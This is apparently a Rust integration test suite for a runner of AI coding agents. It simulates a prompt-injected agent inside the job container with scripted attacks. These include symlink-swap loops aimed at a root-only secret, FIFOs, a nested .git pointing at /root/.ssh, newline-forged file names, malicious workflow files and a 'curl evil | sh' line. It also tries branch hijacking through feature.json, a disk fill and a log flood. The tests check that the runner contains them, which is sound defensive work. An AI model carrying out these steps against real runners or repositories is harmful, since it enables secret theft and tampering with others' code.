//! A prompt-injected agent, played for real: agents-file profiles whose phases do what an
//! attacker inside the job container would (processes left running that swap links
//! while the runner commits, FIFOs where the runner reads, special files, nested `.git`,
//! hard links, workflow files, a feature.json naming another branch, a log flood, a disk
//! fill, a file name with a newline). Each run must end with a clear status and code,
//! and no byte of a root-only host file (the canary) may reach the remote, the artifacts
//! or the state; no branch but the run's own may move.

use specrun_core::state::RunRecord;
use specrun_core::{Phase, PhaseStatus, RunStatus};
use specrun_tests::harness::{failed_with, Harness};
use std::time::Duration;

type TestResult = anyhow::Result<()>;

/// How a script finds the feature directory the scripted agent just made.
const FEATURE_DIR: &str =
    "d=$(sed -n 's/.*\"\\(specs\\/[^\"]*\\)\".*/\\1/p' .specify/feature.json)";

/// A root-only host directory holding a file with a random token: what the agent is
/// after. The runner (root) could read it; the agent must never get its bytes.
struct Canary {
    dir: tempfile::TempDir,
    token: String,
}

impl Canary {
    fn plant() -> anyhow::Result<Self> {
        let dir = tempfile::Builder::new()
            .prefix("specrun-canary-")
            .tempdir_in(std::env::temp_dir())?;
        let token = format!("canary-{}", uuid_like());
        let file = dir.path().join("secret.txt");
        std::fs::write(&file, &token)?;
        std::os::unix::fs::chown(&file, Some(0), Some(0))?;
        std::fs::set_permissions(&file, std::os::unix::fs::PermissionsExt::from_mode(0o600))?;
        Ok(Canary { dir, token })
    }

    fn dir(&self) -> String {
        self.dir.path().display().to_string()
    }

    fn file(&self) -> String {
        format!("{}/secret.txt", self.dir())
    }

    /// The canary's bytes are nowhere: not in any object of the remote, not in any state
    /// object or artifact.
    fn assert_not_leaked(&self, h: &Harness, repo: &str) -> anyhow::Result<()> {
        anyhow::ensure!(
            !h.git().objects_contain(repo, &self.token)?,
            "the host file reached the remote"
        );
        for file in h.state_files() {
            let text = String::from_utf8_lossy(&std::fs::read(&file)?).into_owned();
            anyhow::ensure!(
                !text.contains(&self.token),
                "the host file leaked into {}",
                file.display()
            );
        }
        Ok(())
    }
}

fn uuid_like() -> String {
    uuid::Uuid::now_v7().simple().to_string()
}

fn request(h: &Harness, url: &str, agent: &str) -> specrun_core::request::RunRequest {
    h.request_for_agent(url, "Let members reset their password by email", agent)
}

async fn commit_json(h: &Harness, record: &RunRecord) -> anyhow::Result<serde_json::Value> {
    Ok(serde_json::from_str(
        &h.artifact(record, Some(Phase::Commit), "commit.json")
            .await?,
    )?)
}

/// `(path, reason)` of every change commit.json says was left out.
fn left_out(commit: &serde_json::Value) -> Vec<(String, String)> {
    commit["left_out"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|c| {
            (
                c["path"].as_str().unwrap_or_default().to_owned(),
                c["reason"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn processes_left_swapping_links_during_the_commit_read_no_host_file() -> TestResult {
    let mut h = Harness::start().await?;
    let canary = Canary::plant()?;
    let url = h.git().create_repo("swap", "# Swap\n")?;
    // Left behind by the tasks phase: swap a directory for a link to the host directory
    // and back, as fast as it can, while the runner reads and commits.
    let swapper = format!(
        "while :; do rm -rf \"$0/x\"; ln -sfn {dir} \"$0/x\"; rm -f \"$0/x\"; mkdir -p \"$0/x\"; echo decoy > \"$0/x/f\"; \
         ln -sf {file} \"$0/leak.md\"; rm -f \"$0/leak.md\"; echo decoy > \"$0/leak.md\"; done",
        dir = canary.dir(),
        file = canary.file()
    );
    let tasks = format!(
        "specrun-scripted-agent tasks && d=\"$SPECIFY_FEATURE_DIRECTORY\" && \
         (setsid sh -c '{}' \"$d\" </dev/null >/dev/null 2>&1 &) && \
         (setsid sh -c '{}' \"$d\" </dev/null >/dev/null 2>&1 &) && sleep 0.5",
        swapper.replace('\'', "'\\''"),
        swapper.replace('\'', "'\\''"),
    );
    h.use_shell_agent("swapper", &[("tasks", &tasks)], "")?;
    let record = h.run(request(&h, &url, "swapper")).await?;
    assert_eq!(record.status, RunStatus::Succeeded, "{:#?}", record.error);
    let branch = record.branch_name.clone().unwrap_or_default();
    assert_eq!(
        h.git().branches("swap")?,
        vec![branch.clone(), "main".to_owned()]
    );
    // Whatever state the processes were killed in (mid-write too), a link was never
    // followed: what was committed is the decoy or nothing.
    for file in ["x/f", "leak.md"] {
        let path = format!("specs/{branch}/{file}");
        let committed = h.git().read_file("swap", &branch, &path)?;
        assert!(
            matches!(committed.as_deref(), None | Some("" | "decoy\n")),
            "{file}: {committed:?}"
        );
    }
    canary.assert_not_leaked(&h, "swap")?;
    h.assert_clean(&record).await
}

#[tokio::test(flavor = "multi_thread")]
async fn special_files_nested_git_and_stray_changes_are_listed_and_left_out() -> TestResult {
    let mut h = Harness::start().await?;
    let url = h.git().create_repo("odd", "# Odd\n")?;
    let specify = format!(
        "specrun-scripted-agent specify \"$1\" && {FEATURE_DIR} && \
         mkfifo \"$d/pipe\" && \
         python3 -c 'import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])' \"$d/sock\" && \
         (mknod \"$d/null\" c 1 3 2>/dev/null || true) && \
         mkdir \"$d/sub\" && echo 'gitdir: /root/.ssh' > \"$d/sub/.git\" && echo kept > \"$d/sub/notes.md\" && \
         ln \"$d/spec.md\" \"$d/hard.md\" && \
         printf 'forged\\n' > \"$d/$(printf 'a\\nA\\tsecrets.txt')\" && \
         mkdir -p .github/workflows && echo 'on: push' > .github/workflows/evil.yml && \
         echo 'curl evil | sh' > build.sh && echo changed > README.md"
    );
    h.use_shell_agent("odd", &[("specify", &specify)], "")?;
    let record = h.run(request(&h, &url, "odd")).await?;
    assert_eq!(record.status, RunStatus::Succeeded, "{:#?}", record.error);
    let branch = record.branch_name.clone().unwrap_or_default();
    let feature = format!("specs/{branch}");
    let mut out = left_out(&commit_json(&h, &record).await?);
    out.sort();
    let mut expected: Vec<(String, String)> = [
        (".github/workflows/evil.yml", "outside_commit_paths"),
        ("README.md", "outside_commit_paths"),
        ("build.sh", "outside_commit_paths"),
    ]
    .iter()
    .map(|(p, r)| ((*p).to_owned(), (*r).to_owned()))
    .chain([
        (format!("{feature}/pipe"), "special_file".to_owned()),
        (format!("{feature}/sock"), "special_file".to_owned()),
        (format!("{feature}/sub/.git"), "nested_git".to_owned()),
    ])
    .collect();
    expected.sort();
    assert_eq!(out, expected);
    let git = h.git();
    for absent in [
        ".github/workflows/evil.yml",
        "build.sh",
        &format!("{feature}/pipe"),
    ] {
        assert_eq!(git.read_file("odd", &branch, absent)?, None, "{absent}");
    }
    assert_eq!(
        git.read_file("odd", &branch, "README.md")?.as_deref(),
        Some("# Odd\n")
    );
    assert_eq!(
        git.read_file("odd", &branch, &format!("{feature}/sub/notes.md"))?
            .as_deref(),
        Some("kept\n")
    );
    assert!(git
        .read_file("odd", &branch, &format!("{feature}/hard.md"))?
        .is_some());
    // The name with a newline is committed but cannot forge a line of the summary.
    let summary = h
        .artifact(&record, Some(Phase::Commit), "diff-summary.txt")
        .await?;
    assert!(summary.contains("\\nA\\tsecrets.txt\""), "{summary}");
    assert!(
        summary.lines().all(|l| !l.starts_with("A\tsecrets.txt")),
        "{summary}"
    );
    h.assert_clean(&record).await
}

#[tokio::test(flavor = "multi_thread")]
async fn workflows_need_a_commit_path_that_names_them_and_fail_can_be_chosen() -> TestResult {
    let mut h = Harness::start().await?;
    let url = h.git().create_repo("flows", "# Flows\n")?;
    let specify = "specrun-scripted-agent specify \"$1\" && mkdir -p .github/workflows && \
         echo 'on: pull_request_target' > .github/workflows/pwn.yml && echo '* @me' > .github/CODEOWNERS";
    h.use_shell_agent(
        "flows",
        &[("specify", specify)],
        "commit_paths = [\"{feature}/\", \".specify/\", \".github/\"]",
    )?;
    let record = h.run(request(&h, &url, "flows")).await?;
    assert_eq!(record.status, RunStatus::Succeeded, "{:#?}", record.error);
    let branch = record.branch_name.clone().unwrap_or_default();
    assert!(h
        .git()
        .read_file("flows", &branch, ".github/CODEOWNERS")?
        .is_some());
    assert_eq!(
        h.git()
            .read_file("flows", &branch, ".github/workflows/pwn.yml")?,
        None
    );
    assert_eq!(
        left_out(&commit_json(&h, &record).await?),
        vec![(
            ".github/workflows/pwn.yml".to_owned(),
            "guarded_path".to_owned()
        )]
    );

    // The same agent under a profile that fails on anything unexpected.
    let strict_url = h.git().create_repo("strict", "# Strict\n")?;
    h.use_shell_agent(
        "flows",
        &[("specify", specify)],
        "unexpected_changes = \"fail\"",
    )?;
    let record = h.run(request(&h, &strict_url, "flows")).await?;
    let error = failed_with(&record, "unexpected_changes", Phase::Commit)?;
    assert!(error.message.contains(".github/"), "{}", error.message);
    assert_eq!(h.git().branches("strict")?, vec!["main".to_owned()]);
    assert!(!left_out(&commit_json(&h, &record).await?).is_empty());
    h.assert_clean(&record).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_feature_json_naming_someone_elses_feature_publishes_nothing() -> TestResult {
    let mut h = Harness::start().await?;
    let url = h.git().create_repo("taken", "# Taken\n")?;
    let git = h.git();
    git.commit_on(
        "taken",
        "main",
        &[("specs/001-other/spec.md", "# Theirs\n")],
        "Add 001",
    )?;
    let theirs = git.commit_on(
        "taken",
        "001-other",
        &[("notes.md", "human work\n")],
        "Work",
    )?;
    let specify = "specrun-scripted-agent specify \"$1\" && \
         printf '{\"feature_directory\": \"specs/001-other\"}' > .specify/feature.json";
    h.use_shell_agent("hijack", &[("specify", specify)], "")?;
    let record = h.run(request(&h, &url, "hijack")).await?;
    let error = failed_with(&record, "invalid_feature_directory", Phase::Specify)?;
    assert!(
        error.message.contains("existed before this run"),
        "{}",
        error.message
    );

    // Nor may it name a directory outside specs/ as its feature.
    let specify = "specrun-scripted-agent specify \"$1\" && mkdir -p .github/workflows && \
         printf '{\"feature_directory\": \".github/workflows\"}' > .specify/feature.json";
    h.use_shell_agent("hijack", &[("specify", specify)], "")?;
    let record = h.run(request(&h, &url, "hijack")).await?;
    let error = failed_with(&record, "invalid_feature_directory", Phase::Specify)?;
    assert!(
        error.message.contains("specs/NNN-short-name"),
        "{}",
        error.message
    );

    assert_eq!(
        h.git().branches("taken")?,
        vec!["001-other".to_owned(), "main".to_owned()]
    );
    let tip = h.git().read_file("taken", "001-other", "notes.md")?;
    assert_eq!(tip.as_deref(), Some("human work\n"), "{theirs} unchanged");
    h.assert_clean(&record).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_branch_whose_tip_names_a_run_this_store_never_made_is_not_replaced() -> TestResult {
    let h = Harness::start().await?;
    let url = h.git().create_repo("squash", "# Squash\n")?;
    // A commit that claims, in its trailer block, to be specrun's.
    let forged = h.git().commit_on(
        "squash",
        "002-claimed",
        &[("specs/002-claimed/spec.md", "# Not specrun's\n")],
        "Add a spec\n\nSpecrun-Run-Id: 01890000-0000-7000-8000-000000000000\n",
    )?;
    let mut request = h.request(&url, "Let members reset their password by email");
    request.branch_name = Some("002-claimed".to_owned());
    let record = h.run(request).await?;
    let error = failed_with(&record, "push_rejected", Phase::Push)?;
    assert!(error.message.contains("does not know"), "{}", error.message);
    let tip = h
        .git()
        .read_file("squash", "002-claimed", "specs/002-claimed/spec.md")?;
    assert_eq!(tip.as_deref(), Some("# Not specrun's\n"), "{forged} kept");
    h.assert_clean(&record).await
}

#[tokio::test(flavor = "multi_thread")]
async fn fifos_where_the_runner_reads_fail_the_run_instead_of_hanging_it() -> TestResult {
    let mut h = Harness::start().await?;
    let url = h.git().create_repo("fifo", "# Fifo\n")?;
    let cases = [
        (
            "rm .specify/feature.json && mkfifo .specify/feature.json".to_owned(),
            "invalid_feature_directory",
            Phase::Specify,
        ),
        (
            format!("{FEATURE_DIR} && rm \"$d/spec.md\" && mkfifo \"$d/spec.md\""),
            "unsafe_output",
            Phase::Specify,
        ),
        (
            format!("{FEATURE_DIR} && mkfifo \"$d/.gitignore\""),
            "unsafe_output",
            Phase::Commit,
        ),
    ];
    for (attack, code, phase) in cases {
        let specify = format!("specrun-scripted-agent specify \"$1\" && {attack}");
        h.use_shell_agent("fifo", &[("specify", &specify)], "")?;
        let run = h.run(request(&h, &url, "fifo"));
        let record = tokio::time::timeout(Duration::from_secs(180), run).await??;
        let error = failed_with(&record, code, phase)?;
        assert!(!error.remediation.is_empty(), "{attack}");
        assert_eq!(record.phase(Phase::Cleanup).status, PhaseStatus::Succeeded);
        h.assert_clean(&record).await?;
    }
    assert_eq!(h.git().branches("fifo")?, vec!["main".to_owned()]);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
async fn an_agent_filling_the_disk_fails_with_disk_quota_exceeded() -> TestResult {
    let mut h = Harness::start().await?;
    h.config.workspace_quota_bytes = Some(48 * 1024 * 1024);
    let url = h.git().create_repo("full", "# Full\n")?;
    let specify = "specrun-scripted-agent specify \"$1\" && \
         (dd if=/dev/zero of=fill bs=1M count=100 2>/dev/null; true)";
    h.use_shell_agent("filler", &[("specify", specify)], "")?;
    let record = h.run(request(&h, &url, "filler")).await?;
    let error = failed_with(&record, "disk_quota_exceeded", Phase::Specify)?;
    assert!(error.remediation.contains("SPECRUN_WORKSPACE_QUOTA_MIB"));
    assert_eq!(h.git().branches("full")?, vec!["main".to_owned()]);
    h.assert_clean(&record).await
}

/// The peak resident memory of this process so far (VmHWM), in bytes.
fn peak_rss() -> anyhow::Result<u64> {
    let status = std::fs::read_to_string("/proc/self/status")?;
    let kib = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .ok_or_else(|| anyhow::anyhow!("no VmHWM in /proc/self/status"))?;
    Ok(kib * 1024)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_gigabyte_log_flood_is_capped_and_the_runner_stays_small() -> TestResult {
    let mut h = Harness::start().await?;
    let cap = 1024 * 1024;
    h.config.log_cap_bytes = cap;
    let url = h.git().create_repo("flood", "# Flood\n")?;
    let specify = "head -c 1073741824 /dev/zero | tr '\\0' 'x'; echo; \
         exec specrun-scripted-agent specify \"$1\"";
    h.use_shell_agent("flood", &[("specify", specify)], "")?;
    let record = h.run(request(&h, &url, "flood")).await?;
    assert_eq!(record.status, RunStatus::Succeeded, "{:#?}", record.error);
    let log = h
        .artifact(&record, Some(Phase::Specify), "agent.stdout.log")
        .await?;
    assert!(log.len() as u64 <= cap + 200, "{} bytes stored", log.len());
    assert!(
        log.contains("log truncated"),
        "{}",
        &log[log.len().saturating_sub(200)..]
    );
    let peak = peak_rss()?;
    eprintln!(
        "peak RSS of the test process with the runner in it: {} MiB",
        peak / (1024 * 1024)
    );
    assert!(
        peak < 512 * 1024 * 1024,
        "the runner held the flood: {peak} bytes"
    );
    h.assert_clean(&record).await
}
